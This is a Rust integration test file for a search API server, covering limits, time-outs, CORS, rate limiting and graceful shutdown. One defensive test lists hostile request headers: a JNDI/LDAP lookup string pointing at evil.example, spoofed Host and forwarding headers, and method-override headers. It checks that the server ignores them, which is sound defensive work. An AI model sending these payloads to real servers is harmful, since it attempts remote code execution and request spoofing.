//! The server on a socket: limits, time-outs, operation, the end of its life.

#![allow(
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test says what it expects"
)]

use kirjo::api::{Finna, RateSettings, ServerSettings, serve};
use kirjo::config::ConfigFolder;
use kirjo::record::{FullRecord, IndexRecord, RecordFormat};
use kirjo::search::{
    Documents, SearchError, SearchOutcome, SearchRequest, SearchService, StoredDocument, UserQuery,
};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::num::NonZeroU32;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, LazyLock, mpsc};
use std::time::{Duration, Instant};

/// Finds one record; `slow` takes its time, `bug` panics.
struct Shelf;

fn document() -> Arc<StoredDocument> {
    let mut fields = IndexRecord::new();
    fields.set("id", "a.1");
    fields.set("title", "Title");
    let full_record = FullRecord::Text("<dc/>".to_owned()).into();
    let (id, format, group) = ("a.1".to_owned(), RecordFormat::Dc, Vec::new());
    Arc::new(StoredDocument { id, format, fields, full_record, group })
}

impl SearchService for Shelf {
    fn search(&self, request: &SearchRequest) -> Result<SearchOutcome, SearchError> {
        if let UserQuery::Basic { lookfor, .. } = &request.query {
            match lookfor.as_str() {
                "slow" => std::thread::sleep(Duration::from_millis(400)),
                "bug" => panic!("a bug on purpose"),
                _ => {}
            }
        }
        Ok(SearchOutcome { total: 1, hits: vec![document()].into(), ..SearchOutcome::default() })
    }

    fn records(&self, _ids: &[String]) -> Result<Documents, SearchError> {
        Ok(vec![document()].into())
    }
}

fn start(settings: ServerSettings) -> SocketAddr {
    let finna = Finna::new(Arc::new(Shelf), &ConfigFolder::BuiltIn).expect("the face");
    let (told, address) = mpsc::channel();
    std::thread::spawn(move || {
        serve(Arc::new(finna), settings, move |address| told.send(address).expect("a listener"))
    });
    address.recv_timeout(Duration::from_secs(20)).expect("the server starts")
}

fn free() -> ServerSettings {
    ServerSettings { listen: SocketAddr::from(([127, 0, 0, 1], 0)), ..ServerSettings::default() }
}

static SERVER: LazyLock<SocketAddr> = LazyLock::new(|| start(free()));

struct Reply {
    status: u16,
    head: String,
    body: String,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.head.lines().find_map(|line| {
            let (known, value) = line.split_once(':')?;
            known.eq_ignore_ascii_case(name).then(|| value.trim())
        })
    }

    fn is_refusal(&self, status: u16) -> bool {
        let json: serde_json::Value = serde_json::from_str(&self.body).unwrap_or_default();
        self.status == status
            && json["status"] == "ERROR"
            && self.header("Content-Type") == Some("application/json")
    }
}

/// Sends a request as it is and reads the answer to its end.
fn send(address: SocketAddr, request: &[u8]) -> Option<Reply> {
    let mut stream = TcpStream::connect(address).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(20))).ok()?;
    // The server may refuse before everything is sent.
    let _sent = stream.write_all(request);
    let mut bytes = Vec::new();
    let _read = stream.read_to_end(&mut bytes);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    let (head, body) = text.split_once("\r\n\r\n")?;
    let status = head.split(' ').nth(1)?.parse().ok()?;
    Some(Reply { status, head: head.to_owned(), body: body.to_owned() })
}

fn get_with(address: SocketAddr, target: &str, headers: &str) -> Reply {
    let request = format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{headers}\r\n");
    send(address, request.as_bytes()).expect("an answer")
}

fn get(target: &str) -> Reply {
    get_with(*SERVER, target, "")
}

fn post(headers: &str, body: &str) -> Reply {
    let length = body.len();
    let request = format!(
        "POST /v1/search HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {length}\r\n{headers}\r\n{body}"
    );
    send(*SERVER, request.as_bytes()).expect("an answer")
}

#[test]
fn operators_see_how_the_server_is() {
    assert_eq!((get("/healthz").status, get("/healthz").body), (200, "ok\n".to_owned()));
    assert_eq!((get("/readyz").status, get("/readyz").body), (200, "ready\n".to_owned()));
    assert_eq!(get("/v1/search?lookfor=a").status, 200);
    let metrics = get("/metrics");
    assert_eq!(metrics.header("Cache-Control"), Some("no-store"));
    for part in [
        "kirjo_http_requests_total{endpoint=\"search\",status=\"200\"}",
        "kirjo_http_requests_running",
        "kirjo_search_queue 0",
        "kirjo_http_request_duration_seconds_bucket{le=\"0.001\",endpoint=\"operation\"}",
    ] {
        assert!(metrics.body.contains(part), "{part}\n{}", metrics.body);
    }
    let posted =
        "POST /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n";
    assert_eq!(send(*SERVER, posted.as_bytes()).expect("an answer").status, 405);
}

#[test]
fn requests_have_ids() {
    let own = get("/v1/search");
    let id = own.header("X-Request-Id").expect("an id").to_owned();
    assert_ne!(get("/v1/search").header("X-Request-Id"), Some(id.as_str()));
    let given = get_with(*SERVER, "/v1/search", "X-Request-Id: proxy-17.a\r\n");
    assert_eq!(given.header("X-Request-Id"), Some("proxy-17.a"));
    for bad in ["a b", "\u{1b}[31m", "é", &"x".repeat(65)] {
        let answer = get_with(*SERVER, "/v1/search", &format!("X-Request-Id: {bad}\r\n"));
        assert_ne!(answer.header("X-Request-Id"), Some(bad));
    }
}

#[test]
fn requests_are_bounded() {
    assert_eq!(get(&format!("/v1/search?lookfor={}", "a".repeat(8000))).status, 200);
    for length in [8 << 10, 60_000] {
        let long = get(&format!("/v1/search?lookfor={}", "a".repeat(length)));
        assert!(long.is_refusal(414), "{length}: {}", long.status);
    }
    // Beyond what the HTTP library reads there is no form any more, but an end.
    let begun = Instant::now();
    let huge = get(&format!("/v1/search?lookfor={}", "a".repeat(1 << 20)));
    assert!(matches!(huge.status, 400 | 414 | 431), "{}", huge.status);
    assert!(begun.elapsed() < Duration::from_secs(2), "{:?}", begun.elapsed());

    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    assert_eq!(post(form, &format!("lookfor={}", "a".repeat(60_000))).status, 200);
    let long = post(form, &format!("lookfor={}", "a".repeat(70_000)));
    assert!(long.is_refusal(413), "{}", long.status);
    for encoding in [
        "gzip",
        "GZIP",
        "x-gzip",
        "deflate",
        "br",
        "zstd",
        "compress",
        "gzip, gzip",
        "identity, gzip",
        "no-such",
    ] {
        let packed = post(&format!("Content-Encoding: {encoding}\r\n"), "lookfor=a");
        assert!(packed.is_refusal(415), "{encoding}: {}", packed.status);
    }
    assert_eq!(post("Content-Encoding: identity\r\n", "lookfor=a").status, 200);
}

/// Sends a request while the answer is read; the time to its first bytes, and its status.
fn time_to_answer(address: SocketAddr, request: &[u8]) -> (Duration, u16) {
    let begun = Instant::now();
    let mut stream = TcpStream::connect(address).expect("a connection");
    stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a time-out");
    let mut writer = stream.try_clone().expect("the other end");
    std::thread::scope(|scope| {
        // The server may refuse before everything is sent.
        scope.spawn(move || drop(writer.write_all(request)));
        let mut head = [0; 12];
        stream.read_exact(&mut head).expect("an answer");
        let took = begun.elapsed();
        let _closed = stream.shutdown(std::net::Shutdown::Both);
        let status = std::str::from_utf8(&head[9..]).ok().and_then(|text| text.parse().ok());
        (took, status.expect("a status"))
    })
}

/// What is too long is refused before anything is made of it (reliability §4: 1 MB in 5 ms, from
/// the first byte sent to the first one answered).
#[test]
fn what_is_too_long_is_refused_at_once() {
    let get = |length: usize| {
        let target = format!("/v1/search?lookfor={}", "a".repeat(length));
        format!("GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    };
    let post = |length: usize| {
        let form = "Content-Type: application/x-www-form-urlencoded\r\n";
        let body = format!("lookfor={}", "(".repeat(length));
        let head = format!("Host: x\r\nConnection: close\r\nContent-Length: {}\r\n", body.len());
        format!("POST /v1/search HTTP/1.1\r\n{head}{form}\r\n{body}")
    };
    for (name, request, statuses) in [
        ("an address of 60 KB", get(60_000), &[414][..]),
        ("an address of 1 MB", get(1 << 20), &[400, 414, 431]),
        ("a body of 100 000 parentheses", post(100_000), &[413]),
        ("a body of 1 MB", post(1 << 20), &[413]),
    ] {
        let times = (0..5).map(|_| {
            let (took, status) = time_to_answer(*SERVER, request.as_bytes());
            assert!(statuses.contains(&status), "{name}: {status}");
            took
        });
        let least = times.min().expect("five times");
        println!("{name}: refused in {least:.1?} (figure 5 ms)");
        assert!(least < Duration::from_millis(100), "{name}: {least:?}");
    }
}

#[test]
fn methods_that_are_unknown_are_refused() {
    for method in ["PUT", "DELETE", "PATCH", "TRACE", "NOSUCH"] {
        let request =
            format!("{method} /v1/search HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let answer = send(*SERVER, request.as_bytes()).expect("an answer");
        assert!(answer.is_refusal(405), "{method}: {}", answer.status);
        assert_eq!(answer.header("Allow"), Some("GET, HEAD, POST, OPTIONS"));
    }
    let head = "HEAD /v1/search HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let answer = send(*SERVER, head.as_bytes()).expect("an answer");
    assert_eq!((answer.status, answer.body.as_str()), (200, ""));
    assert!(answer.header("Content-Length").is_some_and(|length| length != "0"));
}

#[test]
fn answers_are_compressed_for_those_who_ask() {
    let plain = get("/v1/search");
    assert_eq!(plain.header("Content-Encoding"), None);
    let packed = get_with(*SERVER, "/v1?openapi", "Accept-Encoding: gzip\r\n");
    assert_eq!(packed.header("Content-Encoding"), Some("gzip"));
    assert!(
        packed.header("Vary").is_some_and(|vary| vary.to_lowercase().contains("accept-encoding"))
    );
}

#[test]
fn no_header_changes_what_is_answered() {
    let plain = get("/v1/record?id=a.1").body;
    for headers in [
        "Host: evil.example\r\n",
        "Host: evil.example:1\r\n",
        "Host: \r\n",
        "Host: x\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: gopher\r\n",
        "Host: x\r\nX-Forwarded-For: 1.2.3.4\r\n",
        "Host: x\r\nX-Forwarded-Port: 1\r\nX-Forwarded-Prefix: /evil\r\n",
        "Host: x\r\nX-Host: evil.example\r\nX-Real-IP: evil\r\n",
        "Host: x\r\nForwarded: host=evil.example;proto=https;for=1.2.3.4\r\n",
        "Host: x\r\nX-Forwarded-Proto: javascript\r\n",
        "Host: x\r\nX-Forwarded-Server: evil.example\r\n",
        "Host: x\r\nX-Forwarded-For: 127.0.0.1, evil.example\r\n",
        "Host: x\r\nForwarded: for=127.0.0.1;proto=https;host=\"evil.example\"\r\n",
        "Host: x\r\nX-Original-URL: /metrics\r\n",
        "Host: x\r\nX-Rewrite-URL: /metrics\r\n",
        "Host: x\r\nX-HTTP-Method-Override: DELETE\r\n",
        "Host: x\r\nX-HTTP-Method: PUT\r\nX-Method-Override: PUT\r\n",
        "Host: x\r\nOrigin: https://evil.example\r\n",
        "Host: x\r\nReferer: https://evil.example/\r\n",
        "Host: x\r\nAccept-Language: sv\r\n",
        "Host: x\r\nAccept: text/html\r\n",
        "Host: x\r\nAccept: image/png\r\n",
        "Host: x\r\nCookie: lng=sv; PHPSESSID=1\r\n",
        "Host: x\r\nAuthorization: Basic ZXZpbDpldmls\r\n",
        "Host: x\r\nIf-None-Match: *\r\n",
        "Host: x\r\nIf-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT\r\n",
        "Host: x\r\nIf-Match: \"evil\"\r\n",
        "Host: x\r\nRange: bytes=0-1\r\n",
        "Host: x\r\nUser-Agent: ${jndi:ldap://evil.example/}\r\n",
        "Host: x\r\nContent-Type: application/json\r\n",
    ] {
        let request =
            format!("GET /v1/record?id=a.1 HTTP/1.1\r\nConnection: close\r\n{headers}\r\n");
        let answer = send(*SERVER, request.as_bytes()).expect("an answer");
        assert_eq!((answer.status, answer.body.as_str()), (200, plain.as_str()), "{headers}");
        assert_eq!(answer.header("Access-Control-Allow-Origin"), Some("*"), "{headers}");
        assert_eq!(answer.header("Content-Type"), Some("application/json"), "{headers}");
        for absent in ["Set-Cookie", "Access-Control-Allow-Credentials", "ETag", "Last-Modified"] {
            assert_eq!(answer.header(absent), None, "{headers}");
        }
        assert!(!answer.head.contains("evil"), "{}", answer.head);
    }
    let with_host = |host: &str| {
        let request = format!("GET /v1 HTTP/1.1\r\nConnection: close\r\nHost: {host}\r\n\r\n");
        send(*SERVER, request.as_bytes()).expect("an answer")
    };
    for host in ["x", "evil.example", "evil.example:1"] {
        let location = with_host(host).header("Location").map(str::to_owned);
        assert_eq!(location.as_deref(), Some("/swagger-ui/?url=%2Fapi%3Fopenapi"), "{host}");
    }
}

/// Requests of pages of other hosts (reliability §6): anyone may read, nobody with credentials.
#[test]
fn other_origins_may_read_everything_that_is_answered() {
    let preflight = "Access-Control-Request-Method: GET\r\n";
    let with_headers =
        "Access-Control-Request-Method: POST\r\nAccess-Control-Request-Headers: content-type\r\n";
    for (method, target, origin, more, status) in [
        ("GET", "/v1/search", "https://a.example", "", 200),
        ("GET", "/api/v1/search", "https://a.example", "", 200),
        ("GET", "/v1/search", "http://localhost:3000", "", 200),
        ("GET", "/v1/search", "null", "", 200),
        ("GET", "/v1/search", "", "", 200),
        ("GET", "/v1/record?id=a.1", "https://a.example", "", 200),
        ("GET", "/v1/record?id=a.1", "https://a.example", "Cookie: a=b\r\n", 200),
        ("GET", "/v1/record", "https://a.example", "", 400),
        ("GET", "/v1/search?limit=x", "https://a.example", "", 400),
        ("GET", "/v1/search?callback=f", "https://a.example", "", 200),
        ("GET", "/v1?openapi", "https://a.example", "", 200),
        ("GET", "/v1", "https://a.example", "", 302),
        ("GET", "/nosuch", "https://a.example", "", 404),
        ("HEAD", "/v1/search", "https://a.example", "", 200),
        ("POST", "/v1/search", "https://a.example", "Content-Length: 0\r\n", 200),
        ("DELETE", "/v1/search", "https://a.example", "", 405),
        ("OPTIONS", "/v1/search", "https://a.example", preflight, 204),
        ("OPTIONS", "/v1/record", "https://a.example", preflight, 204),
        ("OPTIONS", "/api/v1/search?limit=x", "https://a.example", preflight, 204),
        ("OPTIONS", "/v1/search", "https://a.example", with_headers, 204),
        ("OPTIONS", "/v1/search", "", "", 204),
        ("OPTIONS", "/v1", "https://a.example", preflight, 204),
        ("OPTIONS", "/nosuch", "https://a.example", preflight, 404),
    ] {
        let origin =
            if origin.is_empty() { String::new() } else { format!("Origin: {origin}\r\n") };
        let request = format!(
            "{method} {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{origin}{more}\r\n"
        );
        let answer = send(*SERVER, request.as_bytes()).expect("an answer");
        assert_eq!(answer.status, status, "{request}");
        assert_eq!(answer.header("Access-Control-Allow-Origin"), Some("*"), "{request}");
        assert_eq!(answer.header("X-Content-Type-Options"), Some("nosniff"), "{request}");
        assert_eq!(answer.header("Access-Control-Allow-Credentials"), None, "{request}");
        assert_eq!(answer.header("Access-Control-Expose-Headers"), None, "{request}");
        assert_eq!(answer.header("Set-Cookie"), None, "{request}");
        let methods = answer.header("Access-Control-Allow-Methods");
        let age = answer.header("Access-Control-Max-Age");
        if status == 204 {
            assert_eq!((methods, age), (Some("GET, POST, OPTIONS"), Some("86400")), "{request}");
            assert_eq!(answer.body, "");
        } else {
            assert_eq!((methods, age), (None, None), "{request}");
        }
    }
}

fn flood(rate: u32, burst: u32) -> ServerSettings {
    let rate = RateSettings {
        rate: NonZeroU32::new(rate),
        burst: NonZeroU32::new(burst).expect("above 0"),
        counts_loopback: true,
        trusted_proxies: vec!["127.0.0.1/32".parse().expect("a network")],
        ..RateSettings::default()
    };
    ServerSettings { rate, ..free() }
}

#[test]
fn who_asks_too_often_waits() {
    let address = start(flood(1, 10));
    let begun = Instant::now();
    let answers: Vec<Reply> = (0..40).map(|_| get_with(address, "/v1/search", "")).collect();
    let seconds = usize::try_from(begun.elapsed().as_secs()).expect("a few");
    let passed = answers.iter().filter(|answer| answer.status == 200).count();
    println!("{passed} of 40 requests passed at 1/s with a burst of 10 in {seconds} s");
    assert!((10..=11 + seconds).contains(&passed), "{passed} in {seconds} s");
    for refused in answers.iter().filter(|answer| answer.status != 200) {
        assert!(refused.is_refusal(429), "{}", refused.status);
        assert_eq!(refused.body, r#"{"status":"ERROR","statusMessage":"Too many requests"}"#);
        assert_eq!(refused.header("Retry-After"), Some("1"));
        assert_eq!(refused.header("Access-Control-Allow-Origin"), Some("*"));
        assert!(refused.header("X-Request-Id").is_some());
    }
    // Those who watch over the server are not kept out.
    for path in ["/healthz", "/readyz", "/metrics"] {
        assert_eq!(get_with(address, path, "").status, 200, "{path}");
    }
    let metrics = get_with(address, "/metrics", "").body;
    assert!(metrics.contains("{endpoint=\"search\",status=\"429\"} "), "{metrics}");
    std::thread::sleep(Duration::from_millis(1100));
    assert_eq!(get_with(address, "/v1/search", "").status, 200, "after the time that was told");
}

#[test]
fn clients_behind_a_trusted_proxy_have_buckets_of_their_own() {
    let address = start(flood(1, 5));
    let passed = |header: &str| {
        let answers = (0..8).map(|_| get_with(address, "/v1/record?id=a.1", header));
        answers.filter(|answer| answer.status == 200).count()
    };
    for client in ["198.51.100.1", "198.51.100.2", "2001:db8::1"] {
        let passed = passed(&format!("X-Forwarded-For: {client}\r\n"));
        assert!((5..=7).contains(&passed), "{client}: {passed}");
    }
    // A new address in front for each request buys nothing.
    let forged = (0..8).map(|number| format!("X-Forwarded-For: 1.1.1.{number}, 198.51.100.3\r\n"));
    let answers = forged.map(|header| get_with(address, "/v1/record?id=a.1", &header));
    let passed = answers.filter(|answer| answer.status == 200).count();
    assert!((5..=7).contains(&passed), "{passed}");
}

#[test]
fn this_machine_may_ask_as_it_likes() {
    let refused = (0..400).filter(|_| get("/v1/record?id=a.1").status != 200).count();
    assert_eq!(refused, 0);
}

/// What Finna's web server takes: signs in addresses that ought to be percent-encoded.
#[test]
fn addresses_may_hold_signs_as_they_are() {
    for sign in ["\"", "<", ">", "ä", "日本", "{", "}", "|", "^", "`", "\\", "[", "]", "'"] {
        let answer = get(&format!("/v1/search?lookfor=a{sign}b&filter[]=format:{sign}"));
        assert_eq!((answer.status, answer.header("Connection")), (200, Some("close")), "{sign}");
    }
    // Not even UTF-8.
    let bytes = b"GET /v1/search?lookfor=\xE4 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    assert_eq!(send(*SERVER, bytes).expect("an answer").status, 200);
    // One after the other on one connection, bodies between them.
    let requests = "GET /v1/record?id=\"ä\" HTTP/1.1\r\nHost: x\r\n\r\n\
        POST /v1/search?lookfor=\" HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n\"ä\"\n\nGET\
        GET /v1/record?id=ä HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let answers = send(*SERVER, requests.as_bytes()).expect("answers");
    let statuses =
        answers.body.matches("HTTP/1.1 200 OK").count() + usize::from(answers.status == 200);
    assert_eq!(statuses, 3, "{}{}", answers.head, answers.body);
}

#[test]
fn a_bug_costs_one_answer() {
    let settings = ServerSettings { search_threads: 1, ..free() };
    let address = start(settings);
    for _ in 0..3 {
        let answer = get_with(address, "/v1/search?lookfor=bug", "");
        assert!(answer.is_refusal(500), "{}", answer.status);
        assert!(!answer.body.contains("purpose"), "{}", answer.body);
    }
    assert_eq!(get_with(address, "/v1/search?lookfor=a", "").status, 200);
    assert!(get_with(address, "/metrics", "").body.contains("kirjo_panics_total 3\n"));
}

#[test]
fn too_many_at_once_are_refused_at_once() {
    let address = start(ServerSettings { search_threads: 1, queue: 2, ..free() });
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let asking: Vec<_> = (0..12)
            .map(|_| scope.spawn(move || get_with(address, "/v1/search?lookfor=slow", "")))
            .collect();
        asking
            .into_iter()
            .map(|thread| {
                let answer = thread.join().expect("no panic");
                assert!(answer.status == 200 || answer.is_refusal(503), "{}", answer.status);
                answer.status
            })
            .collect()
    });
    let answered = statuses.iter().filter(|status| **status == 200).count();
    assert!((1..=4).contains(&answered), "{statuses:?}");
    assert_eq!(get_with(address, "/v1/search?lookfor=a", "").status, 200, "it recovers");
}

#[test]
fn slow_clients_and_slow_searches_end() {
    let address = start(ServerSettings {
        header_time: Duration::from_millis(300),
        body_time: Duration::from_millis(300),
        time_limit: Duration::from_millis(150),
        ..free()
    });
    let slow = get_with(address, "/v1/search?lookfor=slow", "");
    assert!(slow.is_refusal(503), "{}", slow.status);
    let body = b"POST /v1/search HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 10\r\n\r\nloo";
    let begun = Instant::now();
    let answer = send(address, body).expect("an answer");
    assert!(answer.is_refusal(408), "{}", answer.status);
    let headers = send(address, b"GET /v1/search HTTP/1.1\r\nHost:");
    assert!(headers.is_none_or(|answer| answer.status == 408));
    assert!(begun.elapsed() < Duration::from_secs(10), "{:?}", begun.elapsed());
}

/// The binary itself: told to stop under load it answers what it has taken and ends well.
#[test]
fn sigterm_ends_the_server_without_broken_answers() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut process = Command::new(env!("CARGO_BIN_EXE_kirjo"))
        .args(["serve", "--demo", "--listen", "127.0.0.1:0", "--data"])
        .arg(folder.path().join("data"))
        .env("RUST_LOG", "error")
        .stderr(Stdio::piped())
        .spawn()
        .expect("the server starts");
    let lines = BufReader::new(process.stderr.take().expect("stderr")).lines();
    let (told, address) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        let mut all = Vec::new();
        for line in lines.map_while(Result::ok) {
            if let Some(at) = line.find("http://").filter(|_| line.starts_with("ready")) {
                let address = line[at + 7..].split(',').next().unwrap_or("").to_owned();
                let _sent = told.send(address);
            }
            all.push(line);
        }
        all
    });
    let address = address.recv_timeout(Duration::from_secs(60)).expect("a ready line");
    let address: SocketAddr = address.parse().expect("an address");
    let (stop, whole, broken) = (AtomicBool::new(false), AtomicUsize::new(0), AtomicUsize::new(0));
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    // A connection that was never taken is no broken answer.
                    let request = "GET /v1/search?lookfor=&limit=20 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
                    match send(address, request.as_bytes()) {
                        Some(answer) if answer.body.ends_with("\"status\":\"OK\"}") => {
                            whole.fetch_add(1, Ordering::Relaxed);
                        }
                        Some(answer) => {
                            println!("broken: {} {:.200}", answer.head, answer.body);
                            broken.fetch_add(1, Ordering::Relaxed);
                        }
                        None => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            });
        }
        std::thread::sleep(Duration::from_millis(700));
        let told = Command::new("kill").arg(process.id().to_string()).status().expect("kill");
        assert!(told.success());
        let status = process.wait().expect("the server ends");
        stop.store(true, Ordering::Relaxed);
        assert!(status.success(), "{status}");
    });
    let log = reader.join().expect("no panic");
    assert!(log.iter().any(|line| line == "stopped"), "{log:?}");
    let (whole, broken) = (whole.into_inner(), broken.into_inner());
    println!("{whole} whole answers, {broken} broken");
    assert!(whole > 0 && broken == 0, "{whole} whole, {broken} broken");
}
